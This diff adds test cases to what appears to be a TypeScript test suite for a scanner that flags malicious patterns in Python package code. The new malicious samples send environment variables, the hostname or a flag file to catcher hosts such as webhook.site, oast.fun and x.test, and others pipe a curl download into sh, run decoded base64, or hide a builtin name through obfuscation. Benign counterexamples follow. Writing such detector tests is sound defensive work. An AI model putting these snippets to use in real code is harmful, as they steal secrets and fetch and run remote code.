@@ -160,6 +160,50 @@ describe('a text padded with calls', () => {
   });
 });
 
+describe('techniques of real malicious uploads (synthetic snippets of their shapes)', () => {
+  it.each([
+    // A dependency-confusion probe: a request to a request catcher at import, nothing sent.
+    ['catcher-endpoint', 'import requests\nresponse = requests.get("https://abc123.oast.fun")\n'],
+    ['catcher-endpoint', 'import requests\nURL = "https://webhook.site/0b19-57da"\nwith open("/flag.txt") as f:\n    flag = f.read()\nrequests.post(URL, data={"flag": flag})\n'],
+    // The catcher's name looked up by DNS, the name held in a variable.
+    ['catcher-endpoint', 'import socket\nCANARY = "k3j4.canarytokens.com"\nsocket.gethostbyname(CANARY)\n'],
+    // curl started as a process: the catcher in its command line, host data sent through it.
+    ['catcher-endpoint', 'import subprocess\nsubprocess.run(["curl", "https://webhook.site/c33c"])\n'],
+    ['exfiltration', 'import os, subprocess\nenv = os.environ\nbody = "&".join(f"{k}={v}" for k, v in env.items())\ncmd = ["curl", "-X", "POST", "-d", body, "http://x.test"]\nsubprocess.run(cmd, check=True)\n'],
+    // The host's name looked up under a catcher's domain: DNS exfiltration.
+    ['exfiltration', 'import socket\nhost = socket.gethostname()\nname = f"{host}.w0xm0b.oastify.com"\nsocket.gethostbyname(name)\n'],
+    // Sent over a socket whose name is not `s` or `sock`.
+    ['exfiltration', 'import socket, platform\ninfo = ("OS:", platform.uname())\nclientSocket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\nclientSocket.connect(("x.test", 80))\nclientSocket.send(str(info).encode())\n'],
+    // Host data followed through a longer chain of assignments (encoded before it is sent).
+    ['exfiltration', 'import os, base64, requests\nhost = os.uname()[1]\ndata = "a," + host\nmessage = data\nraw = message.encode("ascii")\nencoded = base64.b64encode(raw)\ntext = encoded.decode("ascii")\nrequests.get("https://x.test?q=" + text)\n'],
+    // Decoded by the module's own helper before a process runs it.
+    ['exec-decoded', 'import base64, os\ndef b64d(code):\n    raw = base64.b64decode(code.encode("ascii"))\n    return raw.decode("ascii")\nos.system(b64d("ZGly"))\n'],
+    // A program downloaded by curl and started; a download piped into a shell; curl's output run.
+    ['download-and-run', 'import os\nos.system(\'"curl.exe -OLJ https://x.test/raw/a.exe"\')\nos.system(\'"a.exe -w 1"\')\n'],
+    ['download-and-run', 'import subprocess\nsubprocess.run("curl -fsSL https://x.test/i | sh", shell=True)\n'],
+    ['download-and-run', 'import subprocess\nbanner = subprocess.getoutput("curl http://x.test/m.html")\nsubprocess.getoutput(str(banner))\n'],
+    // A builtin's name spelled with letters picked out of other objects' text (chr, here).
+    ['obfuscation', "x = ''.join(map(getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0]), [112, 105]))\n"],
+  ] as const)('%s', (label, text) => {
+    expect(readImportCode(text).flags).toContain(label);
+  });
+
+  it.each([
+    ['a request to an ordinary API', 'import requests\nresponse = requests.get("https://api.example.org/v1/status")\n'],
+    ['curl fetching a file, no host data', 'import subprocess\nsubprocess.run(["curl", "-L", "-o", "data.json", "https://example.org/data.json"])\n'],
+    ['curl\'s version read and printed', 'import subprocess\nv = subprocess.check_output(["curl", "--version"])\nprint(v)\nsubprocess.run(["git", "status"])\n'],
+    ['wget saving an archive that is unpacked', 'import subprocess\nsubprocess.run(["wget", "https://x.test/src.tar.gz"])\nsubprocess.run(["tar", "xzf", "src.tar.gz"])\n'],
+    ['a DNS lookup of a configured host', 'import socket\nHOST = "db.internal.example.org"\nsocket.gethostbyname(HOST)\n'],
+    ['a helper that decodes data only printed', 'import base64\ndef b64d(s):\n    return base64.b64decode(s).decode()\nprint(b64d("aGk="))\n'],
+    ['a helper that decodes, a process given other data', 'import base64, subprocess\ndef b64d(s):\n    return base64.b64decode(s)\nsubprocess.run(["git", "status"])\n'],
+    ['a local function named like a process call, a decoder elsewhere', 'import base64\ndef check_output(resp):\n    print(resp)\ndef load(a):\n    return base64.b64decode(a)\nresponse = {}\ncheck_output(response)\n'],
+    ['getattr on builtins by a plain name', 'import builtins\nname = "open"\nf = getattr(builtins, name)\ng = getattr(__builtins__, "print")\n'],
+    ['a class name and a docstring indexed apart', 'first = cls.__name__[0] + "_"\nsummary = f.__doc__[:40]\n'],
+  ])('clean: %s', (_, text) => {
+    expect(readImportCode(text).flags).toEqual([]);
+  });
+});
+
 describe('ordinary library code stays clean', () => {
   it.each([
     ['an HTTP client that reads proxies from the environment and sends requests', 'import os, requests\nproxies = {k: v for k, v in os.environ.items() if k.lower().endswith("_proxy")}\ndef fetch(url):\n    return requests.get(url, proxies=proxies, timeout=5)\n'],
